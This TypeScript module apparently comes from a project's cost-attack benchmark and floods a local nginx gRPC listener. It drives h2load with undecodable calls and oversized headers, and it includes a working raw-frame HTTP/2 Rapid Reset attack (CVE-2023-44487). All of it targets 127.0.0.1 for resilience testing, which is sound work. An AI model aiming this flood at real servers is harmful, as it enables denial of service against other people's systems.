/**
 * make bench-cost-attack's HTTP/2 flood against nginx's gRPC listener, from 127.0.0.1: h2load
 * (Debian's nghttp2-client) with many connections of many streams of calls whose message does not
 * decode, h2load again with headers at nginx's limit, and connections that open streams and reset
 * them at once (rapid reset, CVE-2023-44487), written as raw frames so each stream is on the wire.
 */
import { spawn } from "node:child_process";
import { once } from "node:events";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { connect, type Socket } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";

const CALCULATE_SUM = "/summation.SummationService/CalculateSum";

/** A gRPC message frame whose 4 bytes are no protobuf (field 0, wire type 7): Service A answers INTERNAL. */
const UNDECODABLE = Buffer.from([0, 0, 0, 0, 4, 0xff, 0xff, 0xff, 0xff]);

/** nginx's large_client_header_buffers (4 8k, nginx/nginx.conf): three fields just under 8 KiB each. */
const HEADERS_AT_LIMIT = [1, 2, 3].map((n) => `x-pad-${n}: ${"p".repeat(8 * 1024 - 64)}`);

export interface FloodPlan {
  port: number;
  seconds: number;
  /** h2load's flood of undecodable calls. */
  connections: number;
  streamsPerConnection: number;
  /** Connections opening and resetting streams. */
  resetConnections: number;
}

export interface FloodReport {
  /** Each h2load run's summary lines ("requests: ...", "status codes: ..."). */
  h2load: Record<string, string[]>;
  /** Streams opened and reset at once. */
  resets: number;
}

/** h2load's summary: the lines that count requests and statuses. */
async function h2load(args: string[]): Promise<string[]> {
  const child = spawn("h2load", args, { stdio: ["ignore", "pipe", "pipe"] });
  let output = "";
  child.stdout.on("data", (chunk: Buffer) => {
    output += chunk.toString();
  });
  child.stderr.on("data", (chunk: Buffer) => {
    output += chunk.toString();
  });
  const [code] = (await once(child, "exit").catch((error: Error) => {
    throw new Error(`h2load could not run (${error.message}): apt-get install nghttp2-client`);
  })) as [number | null];
  const lines = output.split("\n").filter((line) => /^(requests|status codes|finished in|traffic):/.test(line));
  if (lines.length === 0) throw new Error(`h2load exited (${code}) without a summary: ${output.trim()}`);
  return lines;
}

/** An HPACK string literal, not Huffman coded; the ones here are short enough for the 7-bit length. */
function hpackString(value: string): Buffer {
  const bytes = Buffer.from(value);
  if (bytes.length >= 127) throw new Error(`HPACK literal over 126 bytes: ${value}`);
  return Buffer.concat([Buffer.from([bytes.length]), bytes]);
}

/** The HEADERS block of a CalculateSum call: static-table entries and literals without indexing. */
function callHeaderBlock(authority: string): Buffer {
  return Buffer.concat([
    Buffer.from([0x83, 0x86]), // :method POST, :scheme http
    Buffer.from([0x04]), // :path (static name 4)
    hpackString(CALCULATE_SUM),
    Buffer.from([0x01]), // :authority (static name 1)
    hpackString(authority),
    Buffer.from([0x0f, 0x10]), // content-type (static name 31)
    hpackString("application/grpc"),
    Buffer.from([0x00]),
    hpackString("te"),
    hpackString("trailers"),
  ]);
}

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const SETTINGS = 0x4;
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const END_HEADERS = 0x4;
const ACK = 0x1;
const CANCEL = Buffer.from([0, 0, 0, 8]);

/**
 * One connection after another, each opening streams 100 at a time and resetting each at once,
 * until `deadline`: returns how many streams it opened. A connection the server closes is replaced.
 */
async function rapidReset(port: number, deadline: number): Promise<number> {
  const block = callHeaderBlock(`127.0.0.1:${port}`);
  let opened = 0;
  while (Date.now() < deadline) {
    const socket: Socket = connect({ host: "127.0.0.1", port });
    socket.on("error", () => undefined);
    socket.resume();
    let closed = false;
    socket.once("close", () => {
      closed = true;
    });
    await once(socket, "connect").catch(() => undefined);
    // The server's SETTINGS are acknowledged ahead: it sends one, at the start.
    socket.write(
      Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0)), frame(SETTINGS, ACK, 0, Buffer.alloc(0))]),
    );
    let streamId = 1;
    while (!closed && Date.now() < deadline && streamId < 2 ** 30) {
      const batch: Buffer[] = [];
      for (let i = 0; i < 100; i += 1, streamId += 2) {
        batch.push(frame(HEADERS, END_HEADERS, streamId, block), frame(RST_STREAM, 0, streamId, CANCEL));
      }
      opened += 100;
      // once() rejects on the socket's error (EPIPE when the server has closed it): the loop's end.
      if (!socket.write(Buffer.concat(batch)))
        await Promise.race([once(socket, "drain"), once(socket, "close")]).catch(() => undefined);
      await new Promise((resolve) => setImmediate(resolve));
    }
    socket.destroy();
  }
  return opened;
}

/** Runs the whole flood for `plan.seconds`; resolves when every part has stopped. */
export async function grpcFlood(plan: FloodPlan): Promise<FloodReport> {
  const dir = await mkdtemp(join(tmpdir(), "grpc-flood-"));
  try {
    const body = join(dir, "undecodable.bin");
    await writeFile(body, UNDECODABLE);
    const url = `http://127.0.0.1:${plan.port}${CALCULATE_SUM}`;
    const common = ["-t", "1", "-D", String(plan.seconds), "-d", body, "-H", "content-type: application/grpc"];
    const deadline = Date.now() + plan.seconds * 1000;
    const [streams, headers, resets] = await Promise.all([
      h2load([...common, "-c", String(plan.connections), "-m", String(plan.streamsPerConnection), url]),
      h2load([...common, "-c", "4", "-m", "100", ...HEADERS_AT_LIMIT.flatMap((h) => ["-H", h]), url]),
      Promise.all(Array.from({ length: plan.resetConnections }, () => rapidReset(plan.port, deadline))),
    ]);
    return {
      h2load: {
        [`${plan.connections} connections x ${plan.streamsPerConnection} streams, undecodable`]: streams,
        "4 connections x 100 streams, headers at the limit": headers,
      },
      resets: resets.reduce((a, b) => a + b, 0),
    };
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}
